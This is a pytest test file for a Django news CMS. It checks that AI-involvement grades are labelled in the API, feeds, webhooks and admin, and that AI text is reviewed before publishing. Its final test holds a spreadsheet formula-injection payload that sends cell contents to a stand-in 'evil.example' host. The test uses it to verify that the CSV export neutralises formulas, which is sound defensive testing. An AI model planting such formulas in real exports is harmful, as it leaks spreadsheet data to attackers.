"""AI disclosure: every grade in every output, in both languages; reviews on record and
the review rule at publish time; incoming AIGC metadata; the admin's panel and report."""

import csv
import html
import io
import json

import feedparser
import pytest
from django.contrib.auth.models import User
from django.test import RequestFactory
from django.utils import timezone

from cms.disclosure import rules as disclosure
from cms.models import (
    ApiKey,
    DisclosureRecord,
    Partner,
    Story,
    StoryTranslation,
    WebhookDelivery,
    WebhookEndpoint,
)
from cms.stories import publishing, workflow
from tests.adminforms import errors, open_form
from tests.factories import make_story, make_user

pytestmark = pytest.mark.django_db

GRADES = [
    "human",
    "ai_assisted",
    "ai_reviewed",
    "ai_generated",
    "machine_from_human",
    "machine_from_ai",
]
LABELS = {
    ("human", "en"): "Written by a person",
    ("human", "zh-hans"): "由人工撰写",
    ("ai_assisted", "en"): "Written by a person with AI assistance",
    ("ai_assisted", "zh-hans"): "由人工在人工智能辅助下撰写",
    ("ai_reviewed", "en"): "AI-generated, reviewed by the editors",
    ("ai_reviewed", "zh-hans"): "人工智能生成，经编辑审核",
    ("ai_generated", "en"): "AI-generated, not reviewed by a person",
    ("ai_generated", "zh-hans"): "人工智能生成，未经人工审核",
    ("machine_from_human", "en"): "Machine-translated from a person's original",
    ("machine_from_human", "zh-hans"): "由人工撰写的原文机器翻译",
    ("machine_from_ai", "en"): "Machine-translated from an AI-generated original",
    ("machine_from_ai", "zh-hans"): "由人工智能生成的原文机器翻译",
}
IPTC = {
    "human": "http://cv.iptc.org/newscodes/digitalsourcetype/digitalCreation",
    "ai_assisted": "http://cv.iptc.org/newscodes/digitalsourcetype/"
    "compositeWithTrainedAlgorithmicMedia",
    "ai_reviewed": "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia",
    "ai_generated": "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia",
    "machine_from_human": "http://cv.iptc.org/newscodes/digitalsourcetype/"
    "compositeWithTrainedAlgorithmicMedia",
    "machine_from_ai": "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia",
}
SCHEMA_ORG = {
    "human": "https://schema.org/DigitalArtDigitalSource",
    "ai_assisted": "https://schema.org/CompositeWithTrainedAlgorithmicMediaDigitalSource",
    "ai_reviewed": "https://schema.org/TrainedAlgorithmicMediaDigitalSource",
    "ai_generated": "https://schema.org/TrainedAlgorithmicMediaDigitalSource",
    "machine_from_human": "https://schema.org/CompositeWithTrainedAlgorithmicMediaDigitalSource",
    "machine_from_ai": "https://schema.org/TrainedAlgorithmicMediaDigitalSource",
}
AI_WRITTEN = {"ai_reviewed", "ai_generated", "machine_from_ai"}
AIGC_KEYS = [
    "Label",
    "ContentProducer",
    "ProduceID",
    "ReservedCode1",
    "ContentPropagator",
    "PropagateID",
    "ReservedCode2",
]
NAMESPACE = "https://news.example.com/ns/aigc/1.0"

STORY = """query($slug: String!, $language: String) { story(slug: $slug, language: $language) {
  aiGenerated disclaimer structuredData
  disclosure { grade label digitalSourceType schemaOrgDigitalSourceType aiGenerated
    reviewed { role reviewedAt editVersion } aigc } } }"""


def graded(grade, slug="graded"):
    """A live story whose versions have `grade`: the factory's editor reviews AI-generated
    text before it is published (`ai_reviewed`); `ai_generated` and `machine_from_ai` text
    is live unreviewed, as after an edit of a live story that no one reviewed."""
    if grade == "ai_reviewed":
        return make_story(slug, ai_involvement="ai_generated")
    return make_story(slug, ai_involvement=grade, reviewed=False)


def label_html(grade, language):
    return html.escape(LABELS[grade, language])


def api(gql, slug, language):
    return gql(STORY, {"slug": slug, "language": language})["data"]["story"]


# Every grade through every output, in both languages.


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("grade", GRADES)
def test_every_grade_is_disclosed_in_the_api_with_its_label_source_type_and_aigc_fields(
    gql, grade, language
):
    graded(grade)
    story = api(gql, "graded", language)
    found = story["disclosure"]
    assert found["grade"] == grade.upper()
    assert found["label"] == LABELS[grade, language]
    assert found["digitalSourceType"] == IPTC[grade]
    assert found["schemaOrgDigitalSourceType"] == SCHEMA_ORG[grade]
    assert story["aiGenerated"] is found["aiGenerated"] is (grade in AI_WRITTEN)
    assert (story["disclaimer"] is not None) is (grade in AI_WRITTEN)
    if grade == "ai_reviewed":
        assert found["reviewed"]["role"] == "editor" and found["reviewed"]["editVersion"] == 0
    else:
        assert found["reviewed"] is None
    if grade == "human":
        assert found["aigc"] is None
    else:
        assert list(found["aigc"]) == AIGC_KEYS
        assert found["aigc"]["Label"] == "1"
        assert found["aigc"]["ContentProducer"] == "AI News"
        assert found["aigc"]["ContentPropagator"] == "AI News"
        assert found["aigc"]["ProduceID"] == found["aigc"]["PropagateID"]
        assert f"-{language}-" in found["aigc"]["ProduceID"]
    (article, *rest) = story["structuredData"]
    assert article["digitalSourceType"] == SCHEMA_ORG[grade]
    # The article holds schema.org terms only; the implicit label is a node of its own
    # for the same @id, in this publication's namespace under its own @context prefix.
    assert "AIGC" not in article and not any(":" in name for name in article)
    labels = [node for node in rest if "aigc:AIGC" in node]
    if grade == "human":
        assert labels == []
    else:
        (label,) = labels
        assert label["@context"] == {"aigc": f"{NAMESPACE}#"}
        assert label["@id"] == article["@id"]
        assert label["aigc:AIGC"] == {f"aigc:{name}": found["aigc"][name] for name in AIGC_KEYS}


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("grade", GRADES)
def test_every_grade_is_labelled_in_rss_and_atom_content_and_namespaced_elements(
    client, grade, language
):
    graded(grade)
    for name in ("rss.xml", "atom.xml"):
        response = client.get(f"/feeds/{language}/{name}")
        assert response.status_code == 200
        feed = feedparser.parse(response.content)
        assert not feed.bozo, feed.bozo_exception
        (entry,) = feed.entries
        content = entry.summary
        assert content.startswith(f'<p class="ai-disclosure"><strong>{label_html(grade, language)}')
        body = response.content.decode()
        assert f'xmlns:aigc="{NAMESPACE}"' in body
        assert f"<aigc:digitalSourceType>{IPTC[grade]}</aigc:digitalSourceType>" in body
        if grade == "human":
            assert "<aigc:AIGC>" not in body
        else:
            assert "<aigc:AIGC><aigc:Label>1</aigc:Label><aigc:ContentProducer>" in body
            assert "<aigc:PropagateID>" in body


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("grade", GRADES)
def test_every_grade_is_labelled_in_json_feed_items(client, grade, language):
    graded(grade)
    (item,) = client.get(f"/feeds/{language}/feed.json").json()["items"]
    assert item["content_html"].startswith(
        f'<p class="ai-disclosure"><strong>{label_html(grade, language)}'
    )
    extension = item["_disclosure"]
    assert extension["grade"] == grade
    assert extension["label"] == LABELS[grade, language]
    assert extension["digitalSourceType"] == IPTC[grade]
    assert (extension["AIGC"] is None) is (grade == "human")
    assert (extension["reviewed"] is not None) is (grade == "ai_reviewed")


@pytest.mark.parametrize("grade", GRADES)
def test_every_grade_travels_in_webhook_payloads_per_language(grade):
    WebhookEndpoint.objects.create(
        partner=Partner.objects.create(name="Partner"), url="http://127.0.0.1:9/hook"
    )
    story = graded(grade, slug="hooked")
    with publishing.change(story):
        story.status = Story.Status.DRAFT
        story.save()
    # Going live, then leaving the public: both events carry the labels.
    deliveries = list(WebhookDelivery.objects.order_by("pk"))
    assert [d.event for d in deliveries] == ["story.published", "story.unpublished"]
    sent = deliveries[-1].payload["data"]["disclosure"]
    assert set(deliveries[0].payload["data"]["disclosure"]) == {"en", "zh-hans"}
    assert set(sent) == {"en", "zh-hans"}
    for language in ("en", "zh-hans"):
        assert sent[language]["grade"] == grade
        assert sent[language]["label"] == LABELS[grade, language]
        assert sent[language]["digitalSourceType"] == IPTC[grade]
        assert (sent[language]["AIGC"] is None) is (grade == "human")


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("grade", GRADES)
def test_every_grade_is_labelled_in_the_admin_preview(admin_client, grade, language):
    story = graded(grade)
    page = admin_client.get(f"/admin/cms/story/{story.pk}/preview/?language={language}")
    assert page.status_code == 200
    assert f'data-grade="{grade}">{label_html(grade, language)}</p>' in page.content.decode()


def test_the_seed_disclaimer_text_is_unchanged(gql):
    make_story("seeded")
    assert api(gql, "seeded", "en")["disclaimer"] == (
        "Disclaimer: The above content is generated by AI and is for reference only."
    )


def test_produce_ids_are_stable_per_version_and_change_with_the_text(gql):
    story = make_story("stable")
    first = api(gql, "stable", "en")["disclosure"]["aigc"]["ProduceID"]
    assert api(gql, "stable", "en")["disclosure"]["aigc"]["ProduceID"] == first
    assert api(gql, "stable", "zh-hans")["disclosure"]["aigc"]["ProduceID"] != first
    row = StoryTranslation.objects.get(master=story, language_code="en")
    row.summary = "Changed."
    row.save()
    from django.core.cache import cache

    cache.clear()
    assert api(gql, "stable", "en")["disclosure"]["aigc"]["ProduceID"] != first


# Reviews on record, and the review rule.


def test_a_list_action_cannot_publish_unreviewed_ai_text(settings):
    assert settings.CMS_AI_PUBLISH_REQUIRES_REVIEW
    story = make_story("unreviewed", status=Story.Status.DRAFT, hours_ago=None)
    publisher = make_user("pub", "Publisher")
    with pytest.raises(workflow.TransitionError, match="reviewed by an editor"):
        publishing.take("publish", story, publisher)
    disclosure.record_review(story, publisher)
    publishing.take("publish", story, publisher)
    assert Story.objects.get(pk=story.pk).is_live()


def test_publishing_from_the_form_reviews_the_language_shown_and_needs_the_others_reviewed(
    client,
):
    story = make_story("form", status=Story.Status.DRAFT, hours_ago=None)
    publisher = make_user("pub", "Publisher")
    client.force_login(publisher)
    url = f"/admin/cms/story/{story.pk}/change/?language=en"
    data = open_form(client, url)
    data["_workflow"] = "publish"
    refused = client.post(url, data)
    assert refused.status_code == 200
    assert any("not reviewed yet: Simplified Chinese" in error for error in errors(refused))
    assert not Story.objects.get(pk=story.pk).is_live()

    chinese = f"/admin/cms/story/{story.pk}/change/?language=zh-hans"
    data = open_form(client, chinese)
    data["mark_reviewed"] = "on"
    assert client.post(chinese, data).status_code == 302
    assert disclosure.unreviewed_languages(story) == ["en"]
    data = open_form(client, url)
    data["_workflow"] = "publish"
    assert client.post(url, data).status_code == 302
    story = Story.objects.get(pk=story.pk)
    assert story.is_live()
    english = StoryTranslation.objects.get(master=story, language_code="en")
    assert english.ai_involvement == "ai_reviewed"
    assert english.reviewed_role == "publisher"
    review = DisclosureRecord.objects.filter(kind="review", language_code="en").get()
    assert (review.user, review.role, review.content_hash) == (
        publisher,
        "publisher",
        english.content_hash,
    )
    assert review.edit_version == story.edit_version


def test_the_rule_can_be_turned_off(settings):
    settings.CMS_AI_PUBLISH_REQUIRES_REVIEW = False
    story = make_story("free", status=Story.Status.DRAFT, hours_ago=None)
    publishing.take("publish", story, make_user("pub", "Publisher"))
    assert Story.objects.get(pk=story.pk).is_live()


def test_a_reviewed_version_changed_later_is_unreviewed_again(gql):
    story = graded("ai_reviewed", slug="later")
    assert api(gql, "later", "en")["disclosure"]["grade"] == "AI_REVIEWED"
    row = StoryTranslation.objects.get(master=story, language_code="en")
    row.title = "A new title"
    row.save()
    from django.core.cache import cache

    cache.clear()
    found = api(gql, "later", "en")["disclosure"]
    assert (found["grade"], found["reviewed"]) == ("AI_GENERATED", None)
    assert api(gql, "later", "zh-hans")["disclosure"]["grade"] == "AI_REVIEWED"
    assert disclosure.unreviewed_languages(story) == ["en"]


# Who may lower a grade.


def lower(client, story, **changes):
    url = f"/admin/cms/story/{story.pk}/change/?language=en"
    data = open_form(client, url)
    data.update({"ai_involvement": "human", **changes})
    return client.post(url, data)


def test_only_editors_and_publishers_may_mark_a_version_reviewed(client):
    story = make_story("marking", status=Story.Status.DRAFT, hours_ago=None)
    client.force_login(make_user("writer", "Writer"))
    url = f"/admin/cms/story/{story.pk}/change/?language=en"
    data = open_form(client, url)
    data["mark_reviewed"] = "on"
    response = client.post(url, data)
    assert "Only an editor or publisher may review." in errors(response)
    assert not DisclosureRecord.objects.exists()


def test_a_writer_cannot_lower_the_grade(client):
    story = make_story("lowering", status=Story.Status.DRAFT, hours_ago=None)
    client.force_login(make_user("writer", "Writer"))
    response = lower(client, story, ai_involvement_reason="I wrote it")
    assert response.status_code == 200
    assert "Only an editor may lower the AI involvement: ask an editor." in errors(response)
    row = StoryTranslation.objects.get(master=story, language_code="en")
    assert row.ai_involvement == "ai_generated"


def test_a_writer_may_raise_the_grade(client):
    story = make_story("raising", status=Story.Status.DRAFT, hours_ago=None, ai_generated=False)
    client.force_login(make_user("writer", "Writer"))
    response = lower(client, story, ai_involvement="ai_assisted")
    assert response.status_code == 302
    row = StoryTranslation.objects.get(master=story, language_code="en")
    assert row.ai_involvement == "ai_assisted"


def test_an_editor_lowers_the_grade_only_with_a_reason_which_is_kept(client):
    story = make_story("editing", status=Story.Status.DRAFT, hours_ago=None)
    editor = make_user("editor", "Editor")
    client.force_login(editor)
    refused = lower(client, story)
    assert "Say why the AI involvement is lower: it is kept on record." in errors(refused)
    assert lower(client, story, ai_involvement_reason="Rewritten by our reporter").status_code == (
        302
    )
    row = StoryTranslation.objects.get(master=story, language_code="en")
    assert (row.ai_involvement, row.origin) == ("human", "human")
    record = DisclosureRecord.objects.get(kind="grade")
    assert (record.user, record.from_grade, record.to_grade, record.reason) == (
        editor,
        "ai_generated",
        "human",
        "Rewritten by our reporter",
    )
    page = client.get(f"/admin/cms/story/{story.pk}/change/").content.decode()
    assert "Rewritten by our reporter" in page
    # Only the Chinese version is still AI-written.
    assert Story.objects.get(pk=story.pk).ai_generated is True


# Ingestion: the grade, incoming AIGC metadata, and the review rule.

UPSERT = """mutation($input: StoryInput!) { upsertStory(input: $input) {
  errors { field message } story { status } } }"""


@pytest.fixture
def pipeline():
    partner = Partner.objects.create(name="Pipeline")
    _key, secret = ApiKey.issue(
        partner=partner,
        name="pipeline",
        scopes=["read", "ingest", "publish"],
        per_minute=10**6,
        per_day=10**7,
    )
    return secret


def upsert(client, secret, data):
    response = client.post(
        "/graphql",
        json.dumps({"query": UPSERT, "variables": {"input": data}}),
        content_type="application/json",
        headers={"authorization": f"Bearer {secret}"},
    )
    return response.json()["data"]["upsertStory"]


def pipeline_story(**overrides):
    return {
        "externalId": "aigc-1",
        "translations": [
            {
                "language": "en",
                "title": "Chips",
                "summary": "S.",
                "tldr": ["T"],
                "analysis": "A.",
                "aigc": {"contentProducer": "MODEL-CO-123", "produceId": "gen-77"},
            },
            {
                "language": "zh-hans",
                "title": "芯片",
                "summary": "摘要",
                "tldr": ["要点"],
                "analysis": "分析",
                "machineTranslated": True,
            },
        ],
        **overrides,
    }


def test_ingestion_keeps_the_original_producer_and_adds_this_publication_as_propagator(
    client, gql, pipeline
):
    result = upsert(client, pipeline, pipeline_story())
    assert result["errors"] == []
    # An editor reviews the pipeline's text and publishes it, as the review rule asks.
    publisher = make_user("pub", "Publisher")
    disclosure.record_review(Story.objects.get(), publisher)
    publishing.take("publish", Story.objects.get(), publisher)
    english = api(gql, Story.objects.get().slug, "en")["disclosure"]
    assert english["grade"] == "AI_REVIEWED"
    aigc = english["aigc"]
    assert (aigc["ContentProducer"], aigc["ProduceID"]) == ("MODEL-CO-123", "gen-77")
    assert aigc["ContentPropagator"] == "AI News"
    assert aigc["PropagateID"].startswith("ainews-") and aigc["PropagateID"] != "gen-77"
    chinese = api(gql, Story.objects.get().slug, "zh-hans")["disclosure"]
    assert chinese["grade"] == "MACHINE_FROM_AI"
    assert chinese["aigc"]["ContentProducer"] == "AI News"
    assert chinese["aigc"]["ContentPropagator"] == "AI News"


def test_ingestion_takes_an_explicit_grade_and_records_it(client, gql, pipeline):
    data = pipeline_story(aiGenerated=False)
    data["translations"][0]["aiInvolvement"] = "AI_ASSISTED"
    assert upsert(client, pipeline, data)["errors"] == []
    grades = dict(StoryTranslation.objects.values_list("language_code", "ai_involvement"))
    assert grades == {"en": "ai_assisted", "zh-hans": "machine_from_human"}
    assert DisclosureRecord.objects.filter(kind="grade", user=None).count() == 2


def test_ingestion_refuses_a_reviewed_grade_and_unknown_aigc_fields(client, pipeline):
    data = pipeline_story()
    data["translations"][0]["aiInvolvement"] = "AI_REVIEWED"
    assert [e["field"] for e in upsert(client, pipeline, data)["errors"]] == [
        "translations.en.aiInvolvement"
    ]
    assert not Story.objects.exists()


def test_ingestion_cannot_publish_unreviewed_ai_text(client, pipeline):
    result = upsert(client, pipeline, pipeline_story(publish=True))
    assert result["story"] is None
    assert result["errors"] == [
        {
            "field": "publish",
            "message": "AI-generated text must be reviewed by an editor before it is "
            "published (not reviewed yet: English, Simplified Chinese).",
        }
    ]
    assert not Story.objects.exists()
    human = pipeline_story(publish=True, aiGenerated=False)
    human["translations"][1]["machineTranslated"] = False
    assert upsert(client, pipeline, human)["story"] == {"status": "published"}


def test_an_import_line_cannot_publish_unreviewed_ai_text_either(tmp_path):
    from django.core.management import CommandError, call_command

    line = {
        "external_id": "line-1",
        "publish": True,
        "translations": {"en": {"title": "T", "summary": "S", "tldr": ["x"], "analysis": "A"}},
    }
    path = tmp_path / "stories.jsonl"
    path.write_text(json.dumps(line) + "\n")
    stderr = io.StringIO()
    with pytest.raises(CommandError, match="1 line"):
        call_command("import_stories", str(path), "--publish", stdout=io.StringIO(), stderr=stderr)
    assert "publish: AI-generated text must be reviewed by an editor" in stderr.getvalue()
    line["translations"]["en"]["aigc"] = {"ContentProducer": "X", "ProduceID": "p-1"}
    line["translations"]["en"]["ai_involvement"] = "human"
    path.write_text(json.dumps(line) + "\n")
    call_command("import_stories", str(path), "--publish", stdout=io.StringIO())
    row = StoryTranslation.objects.get()
    assert row.aigc == {"ContentProducer": "X", "ProduceID": "p-1"}


# The admin: panel, report and CSV.


def test_the_change_form_shows_each_language_grade_label_and_review(client):
    story = graded("ai_reviewed", slug="panel")
    client.force_login(make_user("boss", "Editor"))
    page = client.get(f"/admin/cms/story/{story.pk}/change/?language=zh-hans").content.decode()
    assert "人工智能生成，经编辑审核" in page or "AI-generated, reviewed by the editors" in page
    assert "reviewed by editor" in page
    assert "trainedAlgorithmicMedia" in page


def test_the_report_lists_live_versions_by_grade_and_ai_text_awaiting_review(client):
    graded("ai_reviewed", slug="done")
    graded("human", slug="people")
    make_story("waiting", status=Story.Status.DRAFT, hours_ago=None)
    client.force_login(make_user("boss", "Editor"))
    live = client.get("/admin/cms/story/disclosure/")
    assert live.status_code == 200
    totals = live.context["totals"]
    assert ("English", "AI-generated, reviewed by the editors", 1) in totals
    assert ("English", "Written by a person", 1) in totals
    awaiting = client.get("/admin/cms/story/disclosure/", {"show": "awaiting"})
    assert {(row["slug"], row["language"]) for row in awaiting.context["rows"]} == {
        ("waiting", "en"),
        ("waiting", "zh-hans"),
    }
    exported = client.get(
        "/admin/cms/story/disclosure/", {"show": "live", "grade": "human", "format": "csv"}
    )
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert [(row["slug"], row["language"], row["grade"]) for row in rows] == [
        ("people", "en", "human"),
        ("people", "zh-hans", "human"),
    ]
    assert rows[0]["iptc"] == IPTC["human"]


def test_the_report_lists_versions_whose_label_cannot_be_shown(client):
    story = make_story("broken")
    StoryTranslation.objects.filter(master=story, language_code="en").update(ai_involvement="guess")
    client.force_login(make_user("boss", "Editor"))
    missing = client.get("/admin/cms/story/disclosure/", {"show": "missing"})
    assert [(row["slug"], row["language"]) for row in missing.context["rows"]] == [("broken", "en")]


@pytest.mark.parametrize("params", [{"show": "everything"}, {"grade": "robot"}, {"format": "pdf"}])
def test_bad_report_parameters_are_a_clear_400(client, params):
    client.force_login(make_user("boss", "Editor"))
    response = client.get("/admin/cms/story/disclosure/", params)
    assert response.status_code == 400
    assert b"Unknown" in response.content


def test_the_dashboard_lists_ai_text_waiting_for_review(admin_client):
    make_story("queued", status=Story.Status.REVIEW, hours_ago=None)
    graded("ai_reviewed", slug="cleared")
    page = admin_client.get("/admin/").content.decode()
    assert "AI text awaiting review" in page
    assert "/admin/cms/story/disclosure/?show=awaiting" in page
    from cms.admin import dashboard

    request = RequestFactory().get("/admin/")
    request.user = User.objects.get(username="admin")
    (section,) = [s for s in dashboard.build(request)["sections"] if s.key == "ai_review"]
    assert section.count == 1


def test_grades_from_the_old_flags():
    assert disclosure.grade_from_flags(True, False) == "ai_generated"
    assert disclosure.grade_from_flags(True, True) == "machine_from_ai"
    assert disclosure.grade_from_flags(False, True) == "machine_from_human"
    assert disclosure.grade_from_flags(False, False) == "human"
    assert timezone.now()


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, lead):
    formula = f'{lead}HYPERLINK("https://evil.example/?"&A1,"Click")'
    make_story("formula", ai_involvement="human", reviewed=False, title_en=formula)
    client.force_login(make_user("boss", "Editor"))
    exported = client.get(
        "/admin/cms/story/disclosure/", {"show": "live", "grade": "human", "format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(exported.content.decode(), newline="")))
    english = next(row for row in rows if row["language"] == "en")
    # OWASP: a leading apostrophe makes the cell text; what was typed is kept after it.
    assert english["title"] == f"'{formula}"
    cells = [value for row in rows for value in row.values()]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
